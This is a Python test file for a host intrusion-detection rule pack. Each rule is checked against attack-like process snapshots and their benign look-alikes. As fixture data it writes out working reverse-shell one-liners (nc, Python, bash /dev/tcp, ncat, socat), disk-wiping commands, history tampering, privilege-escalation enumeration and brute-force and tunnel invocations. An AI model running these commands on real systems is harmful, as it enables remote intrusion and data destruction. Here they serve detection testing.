"""The core pack: each behaviour rule fires on its technique written several ways, and
stays quiet on the benign look-alike next to it; the pack is listed by the API."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest

from kefal_lite.detect import corpus, packs
from kefal_lite.detect.builtins import BUILTINS
from kefal_lite.detect.engine import Catalog, evaluate
from kefal_lite.detect.model import SEVERITY_RANK, Finding
from kefal_lite.detect.state import HostState
from kefal_lite.snapshot import Snapshot
from tests.builders import BASE_USERS, proc, snap
from tests.helpers.engine import (
    PACKS_CATALOG,
    findings_of,
    learned,
    outbound,
    persisting,
    run_packs,
)


def one(*procs: dict[str, Any], **fields: Any) -> Callable[[], list[Snapshot]]:
    return lambda: [snap(0, add_processes=list(procs), **fields)]


NGINX = 420  # pid of nginx in the base host
PY_SHELL = ("python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.9\","
            "4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'")  # fmt: skip
USERS_NOLOGIN = [*BASE_USERS, {"name": "backup", "uid": 34, "groups": ["backup"],
                               "shell": "/usr/sbin/nologin"}]  # fmt: skip
USERS_SHELL = [*BASE_USERS, {"name": "backup", "uid": 34, "groups": ["backup"],
                             "shell": "/bin/bash"}]  # fmt: skip

# rule -> list of (violating sequences), subject, severity, near-miss sequences
Case = tuple[list[Callable[[], list[Snapshot]]], str, str, list[Callable[[], list[Snapshot]]]]
CASES: dict[str, Case] = {
    "interpreter_outbound_connection": (
        [one(proc("nc", "www-data", pid=901), connections=[outbound("nc", 901, "203.0.113.7", 443)]),
         # renamed: the process is a python, whatever the script calls itself
         one(proc("python3.12", "www-data", pid=902, cmdline="python3 /tmp/x"),
             connections=[outbound("python3.12", 902, "203.0.113.7", 4444)]),
         # bash -i via exec redirects holds the socket itself
         one(proc("bash", "www-data", pid=903, cmdline="bash"),
             connections=[outbound("bash", 903, "198.51.100.2", 8080)])],
        "process:*", "high",
        [one(proc("python3", "alice", pid=904), connections=[outbound("python3", 904, "10.0.0.5", 5432)]),
         one(proc("bash", "alice", pid=905), connections=[outbound("bash", 905, "127.0.0.1", 4444)]),
         one(proc("curl", "alice", pid=906), connections=[outbound("curl", 906, "203.0.113.7", 4444)])],
    ),
    "service_spawned_shell": (
        [one(proc("sh", "www-data", pid=910, ppid=NGINX, cmdline="sh -c id")),
         one(proc("php-fpm8.2", "www-data", pid=911), proc("python3", "www-data", pid=912, ppid=911))],
        "process:*", "high",
        [one(proc("sh", "alice", pid=913, ppid=400, cmdline="sh -c ls")),  # under sshd: a login
         one(proc("nginx", "www-data", pid=914, ppid=NGINX))],
    ),
    "exe_in_writable_or_hidden_path": (
        [one(proc("kdevtmpfsi", "www-data", pid=920, exe="/var/tmp/.ICE-unix/kdevtmpfsi")),
         one(proc("updater", "alice", pid=921, exe="/home/alice/.config/.u/updater")),
         one(proc("3", "www-data", pid=922, exe="/memfd:x (deleted)"))],
        "process:*", "high",
        [one(proc("node", "alice", pid=923, exe="/home/alice/.vscode-server/bin/abc/node")),
         one(proc("cargo", "alice", pid=924, exe="/home/alice/.cargo/bin/cargo"))],
    ),
    "daemon_name_mismatch": (
        [one(proc("sshd", "root", pid=930, exe="/usr/local/bin/xmr")),
         one(proc("kworker/0:3", "root", pid=931, exe="/usr/bin/kw"))],
        "process:*", "high",
        [one(proc("systemd-udevd", "root", pid=932, exe="/usr/bin/udevadm")),
         one(proc("crond", "root", pid=933, exe="/bin/busybox")),
         one(proc("systemd-journal", "root", pid=934, exe="/usr/lib/systemd/systemd-journald"))],
    ),
    "mining_by_behaviour": (
        # renamed, fed from a config file: nothing in the name or the command line
        [lambda: [snap(i, add_processes=[proc("kswapd1", "www-data", pid=940, cpu=390.0,
                                              exe="/usr/bin/kswapd1", cmdline="kswapd1 -c cfg.json")],
                       connections=[outbound("kswapd1", 940, "198.51.100.8", 14444)]) for i in range(2)],
         one(proc("sysupdate", "www-data", pid=941, cmdline="./sysupdate -o stratum+ssl://p.example:443"))],
        "process:*", "critical",
        [lambda: [snap(i, add_processes=[proc("ffmpeg", "alice", pid=942, cpu=390.0)],
                       connections=[outbound("ffmpeg", 942, "198.51.100.8", 443)]) for i in range(2)],
         lambda: [snap(0, add_processes=[proc("miner", "alice", pid=943, cpu=390.0)],
                       connections=[outbound("miner", 943, "198.51.100.8", 14444)])]],  # one snapshot
    ),
    "reverse_shell_variant": (
        [one(proc("sh", "www-data", pid=950,
                  cmdline="sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.9 4444 >/tmp/f")),
         one(proc("python3", "www-data", pid=951, cmdline=PY_SHELL)),
         one(proc("bash", "www-data", pid=952, cmdline="bash -c exec 5<>/dev/tcp/10.0.0.9/4444;cat <&5|bash >&5")),
         one(proc("ncat", "www-data", pid=953, cmdline="ncat 10.0.0.9 4444 --sh-exec 'bash -i'")),
         one(proc("socat", "www-data", pid=954, cmdline="socat tcp-connect:10.0.0.9:4444 exec:/bin/bash,pty"))],
        "process:*", "critical",
        [one(proc("mkfifo", "alice", pid=955, cmdline="mkfifo /run/user/1000/pipe")),
         one(proc("python3", "alice", pid=956, cmdline="python3 -m http.server --bind 127.0.0.1")),
         one(proc("socat", "alice", pid=957, cmdline="socat tcp-listen:8080 tcp:localhost:80"))],
    ),
    "shell_upgrade": (
        [one(proc("python3", "www-data", pid=960, cmdline="python3 -c import pty;pty.spawn(\"/bin/bash\")")),
         one(proc("script", "www-data", pid=961, cmdline="script -qc /bin/bash /dev/null")),
         one(proc("stty", "alice", pid=962, cmdline="stty raw -echo"))],
        "process:*", "high",
        [one(proc("script", "alice", pid=963, cmdline="script session.log")),
         one(proc("stty", "alice", pid=964, cmdline="stty -echo"))],
    ),
    "destructive_command": (
        [one(proc("rm", "root", pid=970, cmdline="rm -rf --no-preserve-root /")),
         one(proc("sh", "root", pid=971, cmdline="sh -c sleep 1; rm -fr /etc")),
         one(proc("dd", "root", pid=972, cmdline="dd if=/dev/zero of=/dev/sda bs=1M")),
         one(proc("mkfs.ext4", "root", pid=973, cmdline="mkfs.ext4 -F /dev/nvme0n1"))],
        "process:*", "critical",
        [one(proc("rm", "alice", pid=974, cmdline="rm -rf /home/alice/build")),
         one(proc("dd", "alice", pid=975, cmdline="dd if=/dev/sda of=/backup/disk.img")),
         one(proc("rm", "root", pid=976, cmdline="rm -f /etc/nginx/sites-enabled/default"))],
    ),
    "history_tampering": (
        [one(proc("bash", "www-data", pid=980, cmdline="bash -c unset HISTFILE; id")),
         one(proc("bash", "root", pid=981, cmdline="bash -c history -c"))],
        "process:*", "high",
        [one(proc("bash", "alice", pid=982, cmdline="bash -c history | tail"))],
    ),
    "privesc_enumeration": (
        [one(proc("sh", "www-data", pid=990, cmdline="sh /dev/shm/linpeas.sh -a")),
         one(proc("pspy64", "www-data", pid=991, exe="/usr/bin/pspy64")),
         one(proc("find", "www-data", pid=992, cmdline="find / -perm -u=s -type f")),
         one(proc("getcap", "www-data", pid=993, cmdline="getcap -r / 2>/dev/null"))],
        "process:*", "high",
        [one(proc("find", "alice", pid=994, cmdline="find . -name '*.py'")),
         one(proc("less", "alice", pid=995, cmdline="less tables.sh"))],
    ),
    "account_created": (
        [lambda: [*learned(), *persisting(3, users=[*BASE_USERS, {"name": "svc", "uid": 1002, "shell": "/bin/bash"}])]],
        "user:svc", "medium",
        # a package creating a nologin system account is a notice
        [lambda: [*learned(), *persisting(3, users=[*BASE_USERS, {"name": "_pg", "uid": 120, "shell": "/usr/sbin/nologin"}])]],
    ),
    "account_login_shell": (
        [lambda: [*learned(users=USERS_NOLOGIN), *persisting(3, users=USERS_SHELL)]],
        "user:backup", "critical",
        [lambda: [*learned(users=USERS_NOLOGIN), *persisting(3, users=USERS_NOLOGIN)]],
    ),
    "account_privileged": (
        [lambda: [*learned(), *persisting(3, users=[*BASE_USERS[:2], {**BASE_USERS[2], "groups": ["alice", "sudo", "docker"]}])],
         lambda: [*learned(), *persisting(3, users=[*BASE_USERS, {"name": "x", "uid": 0, "shell": "/bin/sh"}])]],
        "user:*", "high",
        [lambda: [*learned(), *persisting(3, users=[*BASE_USERS[:2], {**BASE_USERS[2], "groups": ["alice", "sudo", "video"]}])]],
    ),
    "local_daemon_outbound": (
        # a second systemd-logind from another directory, phoning home on a web port
        [one(proc("systemd-logind", "root", pid=1101, exe="/usr/libexec/systemd-logind"),
             connections=[outbound("systemd-logind", 1101, "203.0.113.7", 8443)]),
         one(proc("cron", "root", pid=1102, exe="/usr/sbin/cron"),
             connections=[outbound("cron", 1102, "198.51.100.4", 443)])],
        "process:*", "high",
        # resolved and timesyncd talk to the network for a living; sshd's sessions are inbound
        [one(proc("systemd-resolve", "systemd-resolve", pid=1103),
             connections=[outbound("systemd-resolve", 1103, "1.1.1.1", 53)]),
         one(proc("systemd-logind", "root", pid=1104),
             connections=[outbound("systemd-logind", 1104, "127.0.0.1", 8443)])],
    ),
    "service_account_discovery": (
        [one(proc("sh", "www-data", pid=1111, ppid=31000, cmdline="sh -c id;uname -a;cat /etc/passwd")),
         # a login account, but under the web server
         one(proc("sh", "alice", pid=1112, ppid=NGINX, cmdline="/bin/sh -c whoami && hostname"))],
        "process:*", "high",
        # a person at a shell asking the same; one command alone; a cron job of www-data
        [one(proc("bash", "alice", pid=1113, ppid=400, cmdline="bash -c id; uname -a")),
         one(proc("sh", "www-data", pid=1114, cmdline="sh -c id -u")),
         one(proc("sh", "www-data", pid=1115, cmdline="sh -c php -f /var/www/cron.php; date"))],
    ),
    "credential_guessing": (
        [one(proc("medusa", "alice", pid=1121, cmdline="medusa -h 10.8.0.5 -u admin -P pass.txt -M ssh")),
         one(proc("svc", "alice", pid=1122, cmdline="./svc -l root -P /usr/share/wordlists/rockyou.txt ssh://10.0.0.5")),
         one(proc("ncrack", "alice", pid=1123, cmdline="ncrack -U users.lst -P pw.lst rdp://10.0.0.7")),
         one(proc("p", "alice", pid=1124, cmdline="patator ssh_login host=10.0.0.5 user=root password=FILE0 0=words"))],
        "process:*", "high",
        # rsync's -P is --progress; sshpass takes one literal password; scp -P is a port
        [one(proc("rsync", "alice", pid=1125, cmdline="rsync -e ssh -P ./dir backup:/srv/")),
         one(proc("sshpass", "alice", pid=1126, cmdline="sshpass -p hunter2 ssh deploy@10.0.0.5")),
         one(proc("scp", "alice", pid=1127, cmdline="scp -P 2222 notes.txt host:/tmp/"))],
    ),
    "tunnel_by_arguments": (
        [one(proc("sshd-agent", "root", pid=1131, cmdline="sshd-agent client 203.0.113.7:443 R:socks")),
         one(proc("upd", "www-data", pid=1132, cmdline="/var/www/upd client 203.0.113.7:8000 R:2222:127.0.0.1:22")),
         one(proc("ssh", "root", pid=1133, cmdline="ssh -fN -o StrictHostKeyChecking=no -R 2222:localhost:22 t@203.0.113.7"))],
        "process:*", "high",
        # a local forward to reach a database; chisel's server side on the tunnel host
        [one(proc("ssh", "alice", pid=1134, cmdline="ssh -N -L 5432:localhost:5432 db.lan")),
         one(proc("ssh", "alice", pid=1135, cmdline="ssh -n build.lan make test"))],
    ),
    "defence_daemon_stopped": (
        [lambda: [snap(0, add_processes=[proc("rsyslogd", pid=700)]), snap(1)],
         lambda: [snap(0, add_processes=[proc("falcon-sensor", pid=701)]), snap(1)]],
        "process:*", "high",
        [lambda: [snap(0, add_processes=[proc("rsyslogd", pid=700)]),
                  snap(1, add_processes=[proc("rsyslogd", pid=702)])]],
    ),
}  # fmt: skip


def test_every_pack_rule_has_a_case_and_an_attack_id() -> None:
    assert set(CASES) == {inv.id for inv in packs.PACKS["core"]}
    for inv in packs.PACKS["core"]:
        assert inv.source == "pack" and inv.attack and inv.attack.startswith("T")
        assert inv.metadata["pack"] == "core" and inv.metadata["description"]
    assert len(BUILTINS) == 32 and not {i.id for i in BUILTINS} & set(CASES)


@pytest.mark.parametrize("rule", sorted(CASES))
def test_pack_rule_fires_on_every_variant(rule: str) -> None:
    variants, subject, severity, _ = CASES[rule]
    for n, variant in enumerate(variants):
        hits = findings_of(rule, run_packs(variant()))
        assert hits, (rule, n)
        assert hits[0].severity == severity or SEVERITY_RANK[hits[0].severity] > SEVERITY_RANK[
            severity], (rule, n, hits[0].severity)  # fmt: skip
        assert subject == "user:*" or subject == "process:*" or hits[0].subject == subject
        assert hits[0].evidence and hits[0].title


@pytest.mark.parametrize("rule", sorted(CASES))
def test_pack_rule_stays_quiet_on_near_misses(rule: str) -> None:
    for n, near in enumerate(CASES[rule][3]):
        hits = [f for f in findings_of(rule, run_packs(near())) if f.severity != "low"]
        assert hits == [], (rule, n, hits)


def test_mkfifo_reverse_shell_is_one_incident_with_every_rule() -> None:
    nc = proc("nc", "www-data", pid=1001, ppid=NGINX, cmdline="nc 10.0.0.9 4444")
    findings = run_packs([snap(0, add_processes=[nc], connections=[outbound("nc", 1001, "10.0.0.9", 4444)])])
    [hit] = [f for f in findings if f.subject == "process:nc"]
    assert hit.severity == "high"
    rules = {r["invariant_id"] for r in hit.evidence["rules"]}
    assert rules == {"interpreter_outbound_connection", "service_spawned_shell"}
    assert hit.evidence["parent"] == {"name": "nginx", "pid": NGINX, "user": "www-data"}


def test_guarded_processes_extend_the_defence_list() -> None:
    catalog = Catalog((*BUILTINS, *packs.active(guarded=["acme-edr"])))
    state = HostState()
    for s in (snap(0, add_processes=[proc("acme-edr", pid=800)]), snap(1)):
        findings, state = evaluate(s, state, catalog, s.timestamp)
    assert [f.subject for f in findings_of("defence_daemon_stopped", findings)] == ["process:acme-edr"]


def test_benign_corpus_stays_quiet_with_the_pack() -> None:
    for name, snapshots in corpus.load().items():
        state = HostState()
        for s in snapshots:
            findings, state = evaluate(s, state, PACKS_CATALOG, s.timestamp + timedelta(seconds=3))
            loud = [f for f in findings if SEVERITY_RANK[f.severity] >= SEVERITY_RANK["medium"]]
            assert loud == [], (name, loud)


def _ids(findings: list[Finding]) -> list[tuple[str, str, str]]:
    return sorted((f.invariant_id, f.subject, f.title) for f in findings)


def test_a_catalog_that_remembers_values_judges_like_a_fresh_one() -> None:
    # The catalog remembers which binaries, (name, binary) pairs, names and command lines it
    # judged: a value seen benign on one host must not hide the same name with another
    # binary, or the same command line on another process, on the next.
    shared = Catalog((*BUILTINS, *packs.active()))
    plants = [
        proc("sshd", pid=931, exe="/usr/sbin/sshd"),
        proc("sshd", pid=931, exe="/tmp/.x/sshd-helper"),
        proc("kworker/0:3", pid=932, exe="/usr/bin/kw"),
        proc("bash", pid=933, ppid=NGINX, cmdline="bash -i"),
        proc("python3", pid=934, ppid=NGINX, cmdline="python3 -c 'import pty;pty.spawn(\"sh\")'"),
    ]
    # each planted host sends two snapshots: the second asks the memo what it judged
    hosts = [
        *([snap(i, add_processes=[plant]) for i in range(2)] for plant in plants),
        *corpus.load().values(),
    ]  # fmt: skip
    for snapshots in hosts:
        fresh = Catalog((*BUILTINS, *packs.active()))
        a_state, b_state = HostState(), HostState()
        for s in snapshots:
            now = s.timestamp + timedelta(seconds=2)
            a, a_state = evaluate(s, a_state, shared, now)
            b, b_state = evaluate(s, b_state, fresh, now)
            assert _ids(a) == _ids(b)
    # and the masquerades above were findings, not two empty lists agreeing
    found = {f.invariant_id for s in hosts[1] + hosts[2]
             for f in evaluate(s, HostState(), shared, s.timestamp)[0]}  # fmt: skip
    assert "daemon_name_mismatch" in found
